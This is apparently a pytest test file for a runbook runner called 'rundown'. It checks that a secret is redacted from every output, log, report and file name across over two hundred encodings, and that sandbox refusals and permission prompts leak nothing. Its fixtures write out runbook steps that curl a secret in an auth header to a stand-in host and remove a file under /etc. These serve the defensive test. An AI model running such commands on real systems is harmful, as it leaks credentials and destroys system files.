"""A secret printed, written, named and handed on in more than two hundred ways: in nothing that is stored or shown.

What a step spells out in a way of its own (reversed, encrypted, letter by letter) is not looked for; the sandbox
is for intent, redaction for accidents.
"""

import base64
import html
import json
import os
import shlex
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.project import RUNDOWN, bare_environment, commit_all, rundown
from tests.support.terminal import Terminal

pytestmark = pytest.mark.kernel

VALUE = 'Tr0ub4dor&3/"é+x=<y>\\z q'
LINES = "first-line-of-the-key-8152\nsecond-line-of-the-key-9931\nthird-line-of-the-key-0042"
BORDER = 1 << 16

# Prints each piece of cases.json with one write(2), as a program does that flushes at odd places.
PRINTER = """
import json, os
for pieces in json.load(open("cases.json")):
    for piece in pieces:
        os.write(1, bytes.fromhex(piece))
"""
BOOK = """---
name: spelled
inputs:
  Given: {secret: true}
---
# Spelled

## 1. Prints {{Given}}

```bash
python3 printer.py
```

## 2. Writes
- OUTPUTS
  - Handed

```bash
printf '%s\\n' "$SPELLED_TOKEN" > dist/plain.txt
printf '%s' "$SPELLED_TOKEN" | base64 > dist/base64.txt
printf '%s\\n' "$LONG_KEY" > dist/changed.txt
mkdir -p "dist/folder ${SPELLED_TOKEN//\\//_}"
: > "dist/folder ${SPELLED_TOKEN//\\//_}/${SPELLED_TOKEN//\\//_}.txt"
ln -s "$SPELLED_TOKEN" dist/link
printf '%s' "$SPELLED_TOKEN" > "$RD_OUTPUTS_Handed"
```

## 3. Is handed it
- PASS CONTINUE
- FAIL STOP "it went wrong with {{Handed}}"

```bash
printf '%s\\n' "$LONG_KEY" >&2
false {{Given}}
```
"""


def spellings(value: str) -> Iterator[bytes]:
    """Every way that is promised: as it is, escaped, in hex, in base64 also as a part of something longer."""
    raw = value.encode()
    yield raw
    for ascii_only in (True, False):
        once = json.dumps(value, ensure_ascii=ascii_only)
        yield once.encode()
        yield json.dumps(once).encode()
    yield urllib.parse.quote(value, safe="").encode()
    yield urllib.parse.quote(value).encode()
    yield urllib.parse.quote_plus(value).encode()
    yield urllib.parse.quote(value, safe="").lower().encode() if value.islower() else raw
    yield "".join(f"%{byte:02X}" for byte in raw).encode()
    yield html.escape(value).encode()
    yield shlex.quote(value).encode()
    yield raw.hex().encode()
    yield raw.hex().upper().encode()
    yield raw.hex(":").encode()
    for front in (b"", b"a", b"ab", b"user:"):
        for back in (b"", b"z", b"zz"):
            for encode in (base64.b64encode, base64.urlsafe_b64encode):
                yield encode(front + raw + back)
                yield encode(front + raw + back).rstrip(b"=")
    yield base64.encodebytes(b"in front " + raw + b" behind" * 9)


def cases() -> list[list[bytes]]:
    """Lists of pieces, each written at once."""
    found: list[list[bytes]] = []
    for value in (VALUE, LINES):
        for text in dict.fromkeys(spellings(value)):
            half = len(text) // 2
            found.append([b"whole: " + text + b"\n"])
            found.append([b"halves: " + text[:half], text[half:] + b"\n"])
            found.append([b"\x1b[31m" + text + b"\x1b[0m\n"])
    raw = VALUE.encode()
    found.append([b"bytes: ", *(bytes([byte]) for byte in raw), b"\n"])
    for inside in (1, len(raw) // 2, len(raw) - 1):
        size = BORDER - inside
        found.append([b"." * size + raw + b"\n"])
        found.append([b"." * size + raw[:inside], raw[inside:] + b"\n"])
    for prefix in ("+", "-", " ", "> ", "    "):
        found.append(["".join(f"{prefix}{line}\n" for line in LINES.split("\n")).encode()])
    return found


def needles() -> list[bytes]:
    """What must not be found: the values, the middle of their spellings, single lines of the long one."""
    found = {line.encode() for line in LINES.split("\n")} | {VALUE.encode()}
    for value in (VALUE, LINES):
        found |= {text for text in spellings(value) if b"\n" not in text}
    core = base64.b64encode(VALUE.encode())[:24]
    return [
        *found,
        core,
        base64.b64encode(b"a" + VALUE.encode())[4:24],
        base64.b64encode(b"ab" + VALUE.encode())[4:24],
    ]


@pytest.fixture
def place(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "dist").mkdir(parents=True)
    (folder / "spelled.runbook.md").write_text(BOOK)
    (folder / "printer.py").write_text(PRINTER)
    (folder / "dist/changed.txt").write_text("before\n")
    pieces = [[piece.hex() for piece in case] for case in cases()]
    (folder / "cases.json").write_text(json.dumps(pieces))
    commit_all(folder, "Start")
    return folder


SECRETS = {"SPELLED_TOKEN": VALUE, "LONG_KEY": LINES, "RD_INPUT_Given": VALUE}
FLAGS = ("--allow-env", "SPELLED_TOKEN,LONG_KEY", "--yes=all")


def test_in_no_way_is_it_stored_or_shown(place: Path) -> None:
    assert len(cases()) >= 200
    words = ("run", "spelled.runbook.md", *FLAGS, "--junit", "junit.xml", "--suggest-policy", "policy.yaml")
    ran = rundown(place, *words, environment=SECRETS)
    assert (ran.returncode, "it went wrong with" in ran.stdout) == (1, True), ran.stderr
    shown = [ran.stdout, ran.stderr]
    for command in (
        ("show",),
        ("show", "--json"),
        ("show", "--html", "-"),
        ("show", "--output", "1"),
        ("status",),
        ("log",),
        ("log", "--json"),
        ("log", "--format", "audit"),
        ("diff",),
        ("verify", "--json"),
    ):
        told = rundown(place, *command, environment=SECRETS)
        assert told.returncode == 0, told.stderr
        shown += [told.stdout, told.stderr]
    streamed = rundown(place, "run", "spelled.runbook.md", *FLAGS, "--json", environment=SECRETS)
    shown += [streamed.stdout, streamed.stderr]
    kept = [path for path in (place / ".rundown/runs").rglob("*") if path.is_file()]
    kept += [place / "junit.xml", place / "policy.yaml"]
    state = [path for path in place.parent.glob("project.home/**/*") if path.is_file()]
    everything = {str(path): path.read_bytes() for path in (*kept, *state)}
    everything |= {f"shown {at}": text.encode() for at, text in enumerate(shown)}
    everything["names"] = b"\n".join(os.fsencode(path) for path in (*kept, *state))
    looked_for = needles()
    found = [(name, text) for name, content in everything.items() for text in looked_for if text in content]
    assert found == []
    assert everything["shown 0"].count(b"[REDACTED:") > 200


REFUSED = f"""# Refused

## 1. Would send

```bash
curl -H 'Auth: {VALUE}' https://HiddenHost99.example/
rm /etc/HiddenHost99
```
"""


def test_in_no_refusal_either(place: Path) -> None:
    """A host is known in lower case, whatever case it was written in."""
    (place / "refused.runbook.md").write_text(REFUSED)
    secrets = {"SPELLED_TOKEN": VALUE, "HOST_KEY": "HiddenHost99"}
    runner = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(place / "summary.md")}
    sends = ("bash", "-c", f"curl -H 'Auth: {VALUE}' https://hiddenhost99.example/")
    suggest = ("run", "refused.runbook.md", "--non-interactive", "--suggest-policy", "policy.yaml")
    shown = {}
    for words, code, environment in (
        ((*suggest, "--junit", "junit.xml"), 3, runner),
        (("run", "refused.runbook.md", "--dry-run"), 3, {}),
        (("run", "refused.runbook.md", "--dry-run", "--json"), 3, {}),
        (("exec", "--non-interactive", "--", *sends), 126, {}),
        (("exec", "--non-interactive", "--explain", "--", *sends), 126, {}),
        (("policy", "explain", "--", sends[-1]), 0, {}),
        (("run", "refused.runbook.md", "--from", "HiddenHost99"), 2, {}),
        (("run", "refused.runbook.md", "--hiddenhost99"), 2, {}),
    ):
        told = rundown(place, *words, environment=secrets | environment)
        assert told.returncode == code, told.stderr
        shown[" ".join(words)] = told.stdout + told.stderr
    shown |= {name: (place / name).read_text() for name in ("policy.yaml", "junit.xml", "summary.md")}
    found = [(name, text) for name, text in shown.items() if VALUE in text or "hiddenhost" in text.lower()]
    assert found == []
    assert "# no line can allow: net [REDACTED:HOST_KEY].example:443" in shown["policy.yaml"]


@pytest.mark.terminal
@pytest.mark.parametrize("way", ["run", "exec"])
def test_in_no_question_either(place: Path, way: str) -> None:
    sends = f"curl -H 'Auth: {VALUE.replace(chr(39), '')}' https://x.example/"
    (place / "asks.runbook.md").write_text(f"# Asks\n\n## 1. Would send\n\n```bash\n{sends}\n```\n")
    environment = bare_environment(place, SECRETS)
    words = [RUNDOWN, "run", "asks.runbook.md", "--allow-run", "curl", "--no-preflight"]
    if way == "exec":
        words = [RUNDOWN, "exec", "--allow-run", "curl", "--", "bash", "-c", sends]
    with Terminal(words, cwd=place, environment=environment, columns=110, rows=45) as terminal:
        screen = terminal.wait_for("Permission needed")
        terminal.wait_for("a key, or arrows")
        terminal.press("v")
        screen += terminal.wait_for("back to the question")
        terminal.press("b")
        terminal.press("n")
        terminal.wait_exit()
        screen += terminal.screen()
    assert (
        "REDACTED" in screen,
        [text for text in needles() if text.decode(errors="replace") in screen],
    ) == (True, [])
